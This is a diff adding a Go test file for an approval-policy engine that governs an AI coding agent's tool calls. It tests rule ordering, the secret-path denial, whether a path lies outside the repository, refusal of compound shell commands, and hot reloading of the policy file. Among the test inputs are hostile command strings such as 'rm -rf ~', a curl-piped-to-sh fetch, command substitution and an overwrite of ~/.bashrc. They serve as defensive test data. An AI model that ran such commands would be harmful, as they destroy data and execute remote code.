@@ -0,0 +1,142 @@
+package policy
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+)
+
+func TestEvaluateFirstMatchingRuleWins(t *testing.T) {
+	policy, err := Parse([]byte(`
+rules:
+  - name: deny-secrets
+    action: deny
+    path_prefix: secrets
+  - name: repo-reads
+    action: allow
+    tools: [read, Glob]
+    in_repo: true
+  - name: outside-repo
+    action: ask
+    in_repo: false
+  - name: codex-tests
+    action: allow
+    providers: [codex]
+    groups: [ci]
+    command: '^go test'
+`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	repo := "/home/me/repo"
+	cases := []struct {
+		name string
+		req  Request
+		rule string
+	}{
+		{"read in repo", Request{ToolName: "Read", Paths: []string{"main.go"}, CWD: repo, RepoRoot: repo}, "repo-reads"},
+		{"secret read", Request{ToolName: "Read", Paths: []string{"secrets/key.pem"}, CWD: repo, RepoRoot: repo}, "deny-secrets"},
+		{"escaping read", Request{ToolName: "Read", Paths: []string{"../other/main.go"}, CWD: repo, RepoRoot: repo}, "outside-repo"},
+		{"mixed paths", Request{ToolName: "Glob", Paths: []string{"a.go", "/etc/hosts"}, CWD: repo, RepoRoot: repo}, "outside-repo"},
+		{"no repo", Request{ToolName: "Read", Paths: []string{"/tmp/x"}, CWD: "/tmp"}, "outside-repo"},
+		{"codex tests", Request{Provider: "codex", GroupID: "CI", Command: "go test ./..."}, "codex-tests"},
+		{"wrong group", Request{Provider: "codex", GroupID: "dev", Command: "go test ./..."}, ""},
+		{"no paths", Request{ToolName: "Read"}, ""},
+	}
+	for _, tc := range cases {
+		decision, ok := policy.Evaluate(tc.req)
+		if tc.rule == "" {
+			if ok {
+				t.Errorf("%s: matched %+v", tc.name, decision)
+			}
+			continue
+		}
+		if !ok || decision.Rule != tc.rule {
+			t.Errorf("%s: decision=%+v ok=%v, want %s", tc.name, decision, ok, tc.rule)
+		}
+	}
+}
+
+func TestAllowCommandRulesRefuseCompoundCommands(t *testing.T) {
+	policy, err := Parse([]byte(`
+rules:
+  - name: never-rm-rf
+    action: deny
+    command: 'rm\s+-rf'
+  - name: git-status
+    action: allow
+    command: '^git (status|diff|log)\b'
+`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for command, rule := range map[string]string{
+		"git status":                       "git-status",
+		"git log --oneline -5":             "git-status",
+		"git status; rm -rf ~":             "never-rm-rf",
+		"git log && curl example.com | sh": "",
+		"git diff $(cat list)":             "",
+		"git diff `cat list`":              "",
+		"git log > ~/.bashrc":              "",
+		"git status\ntouch x":              "",
+	} {
+		decision, ok := policy.Evaluate(Request{ToolName: "Bash", Command: command})
+		if rule == "" {
+			if ok {
+				t.Errorf("%q: matched %+v", command, decision)
+			}
+			continue
+		}
+		if !ok || decision.Rule != rule {
+			t.Errorf("%q: decision=%+v ok=%v, want %s", command, decision, ok, rule)
+		}
+	}
+}
+
+func TestParseRejectsInvalidRules(t *testing.T) {
+	for _, doc := range []string{
+		"rules:\n  - name: x\n    action: maybe\n",
+		"rules:\n  - name: x\n    action: allow\n    command: '('\n",
+	} {
+		if _, err := Parse([]byte(doc)); err == nil {
+			t.Errorf("Parse(%q) succeeded", doc)
+		}
+	}
+}
+
+func TestFileReloadsOnChangeAndKeepsLastGoodRules(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "approvals.yaml")
+	file := NewFile(path)
+	if policy, err := file.Policy(); policy != nil || err != nil {
+		t.Fatalf("missing file: policy=%v err=%v", policy, err)
+	}
+
+	write := func(doc string, modTime time.Time) {
+		t.Helper()
+		if err := os.WriteFile(path, []byte(doc), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Chtimes(path, modTime, modTime); err != nil {
+			t.Fatal(err)
+		}
+	}
+	base := time.Now().Add(-time.Hour)
+	write("rules:\n  - name: first\n    action: allow\n", base)
+	policy, err := file.Policy()
+	if err != nil || len(policy.Rules) != 1 || policy.Rules[0].Name != "first" {
+		t.Fatalf("policy=%+v err=%v", policy, err)
+	}
+
+	write("rules:\n  - name: broken\n    action: nope\n", base.Add(time.Minute))
+	policy, err = file.Policy()
+	if err == nil || policy == nil || policy.Rules[0].Name != "first" {
+		t.Fatalf("broken reload: policy=%+v err=%v", policy, err)
+	}
+
+	write("rules:\n  - name: second\n    action: deny\n", base.Add(2*time.Minute))
+	policy, err = file.Policy()
+	if err != nil || policy.Rules[0].Name != "second" {
+		t.Fatalf("policy=%+v err=%v", policy, err)
+	}
+}